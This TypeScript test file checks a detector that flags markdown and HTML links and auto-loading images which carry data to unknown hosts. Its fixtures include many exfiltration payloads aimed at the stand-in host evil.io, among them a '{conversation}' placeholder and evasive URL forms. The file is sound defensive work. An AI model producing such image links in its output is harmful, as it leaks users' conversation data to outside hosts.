// Exfiltration links: what carries data to a strange host is found, what leads to a known one is not.
import { describe, expect, it } from 'vitest';
import { linkDetector } from './link.ts';
import { checkBounds } from './testing/bounds.ts';
import { plainView, testContext } from './testing/plain-view.ts';

const context = testContext({ knownHosts: new Set(['docs.acme.com', 'acme.com']) });
const find = (text: string) => linkDetector.inspect(plainView(text), context);
const DATA = 'c2VjcmV0IHByb2plY3QgZmFsY29u';

describe('what is found', () => {
  it.each([
    ['an image that reports by itself', `![x](https://evil.io/p.png?q=${DATA})`, 'exfiltration.auto_load', 'high'],
    ['the same with brackets in the path', `![x](https://evil.io/a(b)'c?q=${DATA})`, 'exfiltration.auto_load', 'high'],
    ['the same without a scheme', `![x](//evil.io/p?q=${DATA})`, 'exfiltration.auto_load', 'high'],
    ['the same with backslashes', `![x](https:\\\\evil.io/p?q=${DATA})`, 'exfiltration.auto_load', 'high'],
    ['the same without slashes', `![x](https:evil.io/p?q=${DATA})`, 'exfiltration.auto_load', 'high'],
    ['a placeholder to be filled in', '![x](https://evil.io/?d={conversation})', 'exfiltration.auto_load', 'high'],
    ['data in the host name', '![x](https://3f9a62c1d07be4485a.evil.io/a.png)', 'exfiltration.auto_load', 'high'],
    ['data in the path', `<img src="https://evil.io/${DATA}.png">`, 'exfiltration.auto_load', 'high'],
    [
      'a sentence in the query',
      '<img alt=x src=https://evil.io/?a=the%20code%20is%20blue>',
      'exfiltration.auto_load',
      'high',
    ],
    ['a link to click', `[report](https://evil.io/?q=${DATA})`, 'exfiltration.link', 'medium'],
    ['a definition', `[1]: https://evil.io/?q=${DATA}`, 'exfiltration.definition', 'medium'],
    ['a bare address', `see https://evil.io/?q=${DATA}.`, 'exfiltration.text', 'low'],
    ['a host disguised as a user', '[log in](https://acme.com@evil.io/)', 'exfiltration.link', 'high'],
    ['punycode', '[log in](https://xn--cme-5cd.com/)', 'exfiltration.link', 'high'],
    ['a number for a host', '![x](http://203.0.113.7/p.png)', 'exfiltration.auto_load', 'medium'],
    ['a number in brackets', '![x](http://[2001:db8::1]/p.png)', 'exfiltration.auto_load', 'medium'],
    ['an image of a strange host', '![logo](https://cdn.other.org/logo.png)', 'exfiltration.auto_load', 'low'],
    ['an endless address', `![x](https://evil.io/${'a/'.repeat(300)})`, 'exfiltration.auto_load', 'high'],
  ])('%s', (_name, text, rule, severity) => {
    expect(find(text).map((found) => [found.rule, found.severity])).toEqual([[rule, severity]]);
  });

  it('reports the address without the data', () => {
    expect(find(`![x](https://evil.io/p.png?q=${DATA})`)[0]?.evidence).not.toContain(DATA.slice(0, 6));
  });
});

describe('what is not', () => {
  it.each([
    `![chart](https://docs.acme.com/p.png?q=${DATA})`,
    `[terms](https://www.acme.com/?q=${DATA})`,
    '[guide](https://other.org/guide/how-to-travel-light-in-winter)',
    'see https://other.org/search?q=shoes&page=2',
    '// a comment, and a path C:\\\\temp',
    'http is a protocol; https: is safer',
  ])('%s', (text) => {
    expect(find(text)).toEqual([]);
  });
});

it('finds in pieces what it finds whole', () => {
  const whole = ['![x](https://evil.io/?q=', '<img src="http://a.evil.io/', '[1]: https://evil.io/#'].map(
    (text) => text + DATA,
  );
  const parts = [
    '![x](',
    '[y](',
    ')',
    '<img src="',
    '">',
    '[1]: ',
    'https://',
    'http:',
    '//',
    'evil.io',
    '/',
    '?q=',
    '(',
    '@',
  ];
  const fragments = [...whole, ...whole, ...parts, DATA, '{data}', 'acme.com', 'a'.repeat(120), '[2001:db8::1]'];
  expect(checkBounds(linkDetector, { fragments, context, runs: 150 })).toBeGreaterThan(80);
});
